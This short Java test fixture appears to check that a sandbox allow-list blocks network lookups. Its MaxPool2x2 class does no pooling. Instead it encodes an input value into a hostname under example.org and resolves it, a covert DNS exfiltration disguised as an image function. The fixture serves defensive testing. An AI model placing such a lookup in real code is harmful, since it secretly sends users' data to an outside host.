// hostile: tells the values by the names that it asks for
// stopped by: allow-list
// says: java.net.InetAddress.getByName is not allowed
import java.net.InetAddress;

class MaxPool2x2 {
  static float[][] maxPool(float[][] image) {
    try {
      InetAddress.getByName("v" + image[0][0] + ".example.org");
    } catch (Exception ignored) {
      return null;
    }
    return image;
  }
}
